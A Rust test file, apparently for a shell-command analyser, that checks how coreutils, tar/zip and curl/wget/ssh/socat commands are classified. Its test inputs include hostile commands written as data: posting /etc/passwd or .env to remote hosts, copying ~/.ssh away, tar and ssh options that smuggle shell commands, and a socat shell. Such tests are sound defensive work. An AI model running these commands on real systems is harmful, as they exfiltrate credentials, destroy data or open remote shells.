//! Rows for coreutils and archivers.

use super::check;

#[test]
fn files() {
    check("rm -rf build", "remove/:build destructive");
    check("rm -- -f", "remove:-f destructive");
    check("/bin/rm x", "remove:x destructive");
    check("cp a b", "read:a write:b");
    check("cp -r a b c", "read/:a read/:b write:c");
    check("cp -t d a b", "write:d read:a read:b");
    check("cp --target-directory=d a", "write:d read:a");
    check("mv a b", "move:a write:b");
    check("ln -s /etc/passwd ./p", "link:/etc/passwd write:./p");
    check("ln /etc/passwd", "link:/etc/passwd");
    check("chmod -R 755 d", "text:755 attr/:d");
    check("chmod +x run.sh", "text:+x attr:run.sh");
    check("chmod --reference=a b", "list:a attr:b");
    check("chown -R u:g /srv", "text:u:g attr/:/srv");
    check("touch -r ref x", "list:ref attr:x");
    check("mkdir -p a/b", "write:a/b");
    check("install -d a b", "write:a write:b");
    check("install -m 755 a b", "read:a write:b");
    check("ls", "list:. =names");
    check("ls -la /etc", "list:/etc =names");
    check("ls -R src", "list/:src =under");
    check("stat -c %s x", "list:x");
    check("du -sh", "list/:.");
    check(
        "dd if=/dev/zero of=/etc/x bs=1M",
        "read:/dev/zero write:/etc/x text:bs=1M destructive",
    );
    check("tee -a log", "write:log");
    check("mktemp -d /tmp/x.XXXX", "write:/tmp/x.XXXX =temporary");
    check("date +%Y/%m/%d", "text:+%Y/%m/%d");
    check("date -s 2020-01-01", "!--set");
    check("basename /a/b .c", "text:/a/b text:.c");
    check("truncate -s 0 x", "edit:x destructive");
    check("cat -n -", "text:-");
    check("cat --unknown x", "read:x ?--unknown");
    check("test -f /etc/x", "list:/etc/x");
    check("[ a = /b ]", "text:a text:= text:/b text:]");
    check("[ x -nt y ]", "list:x list:y text:]");
    check("cd ..", "enter:..");
    check("echo a//b /x", "text:a//b text:/x =words");
    check("pwd", "=here");
    check("kill -9 12", "text:12");
}

#[test]
fn archives() {
    check("tar -C / -xf a.tar", "write/:/ read:a.tar");
    check(
        "tar -C/etc -cf out.tar passwd",
        "enter:/etc write:out.tar read/:passwd@/etc",
    );
    check("tar czf - secrets", "text:- read/:secrets");
    check("tar xzf a.tgz", "read:a.tgz write/:.");
    check("tar xf a.tar b/c", "read:a.tar text:b/c write/:.");
    check(
        "tar cf o.tar a -C /etc b",
        "write:o.tar read/:a enter:/etc read/:b@/etc",
    );
    check("tar tf a.tar", "read:a.tar");
    check(
        "tar -xf a.tar --to-command='rm foo'",
        "read:a.tar !--to-command sh<rm foo>",
    );
    check(
        "tar cf a.tar . --checkpoint=1 --checkpoint-action=exec='sh x'",
        "write:a.tar read/:. !--checkpoint-action sh<sh x>",
    );
    check(
        "tar --use-compress-program=./x -cf a b",
        "write:a read/:b !--use-compress-program sh<./x>",
    );
    check(
        "tar -I zstd -cf a b",
        "write:a read/:b !--use-compress-program sh<zstd>",
    );
    check("tar cf x --exclude=.env .", "write:x read/:. walk(-.env)");
    check("zip -r out.zip src", "write:out.zip read/:src");
    check(
        "zip out.zip -T -TT 'rm x' a",
        "write:out.zip read:a !--unzip-command sh<rm x>",
    );
    check(
        "zip -r o.zip . -x '*.env' b",
        "write:o.zip read/:. text:b walk(-*.env -b)",
    );
    check("unzip -o a.zip -d out -x b", "read:a.zip write/:out text:b");
    check("unzip a.zip", "read:a.zip write/:.");
    check("unzip -l a.zip", "read:a.zip");
    check("unzip a.zip -d /opt", "read:a.zip write/:/opt");
    check("gzip -k x", "edit:x");
    check("gzip -dc x", "read:x");
    check("zcat x.gz", "read:x.gz");
    check("7z x a.7z -o/tmp/out", "text:x read:a.7z write/:/tmp/out");
    check("7z a o.7z src", "text:a write:o.7z read/:src");
}

#[test]
fn network() {
    check(
        "curl -d @/etc/passwd https://x.example",
        "read:/etc/passwd url:https://x.example",
    );
    check(
        "curl -F file=@.env https://x.test",
        "read:.env url:https://x.test",
    );
    check("curl -s file:///etc/passwd", "url:file:///etc/passwd");
    check(
        "curl -fsSL https://x -o y",
        "url:https://x write:y !--output > y",
    );
    check(
        "curl -so/dev/null https://x",
        "write:/dev/null url:https://x",
    );
    check(
        "curl --data-urlencode a@/etc/x --data-urlencode b=@c https://x",
        "read:/etc/x text:b=@c url:https://x",
    );
    check(
        "curl -F 'f=@a,b;type=x/y' https://x",
        "read:a read:b url:https://x",
    );
    check("curl -OJL https://x", "url:https://x write:.");
    check("curl -K c https://x", "exec:c url:https://x !--config");
    check("curl -b a=b https://x", "text:a=b url:https://x");
    check("curl -T f ftp://x", "read:f url:ftp://x");
    check(
        "wget -O x https://y",
        "write:x url:https://y !--output-document > x",
    );
    check(
        "wget --post-file=.env https://y",
        "read:.env url:https://y write:.",
    );
    check("scp a h:b", "read:a text:h:b");
    check("scp -r h:a b", "text:h:a write:b");
    check(
        "scp -o ProxyCommand='rm x' a h:",
        "read:a text:h: !ProxyCommand sh<rm x>",
    );
    check("rsync ~/.ssh/ h:/tmp/", "read/:~/.ssh/ text:h:/tmp/");
    check(
        "rsync -e 'sh -c x' a b",
        "read/:a write:b !--rsh sh<sh -c x>",
    );
    check("rsync -e 'ssh -p 22' a b", "read/:a write:b");
    check(
        "ssh -o ProxyCommand='rm foo' h",
        "text:h host=repl !ProxyCommand sh<rm foo>",
    );
    check("ssh h rm -rf x", "text:h host=sh<rm -rf x>");
    check(
        "ssh -p 22 -i ~/.ssh/k u@h 'ls /'",
        "read:~/.ssh/k text:u@h host=sh<ls />",
    );
    check("ssh h", "text:h host=repl");
    check("ssh -NL 1:x:2 h", "text:h host=");
    check(
        "socat TCP:x:1 EXEC:sh",
        "text:TCP:x:1 text:EXEC:sh !EXEC sh<sh>",
    );
}
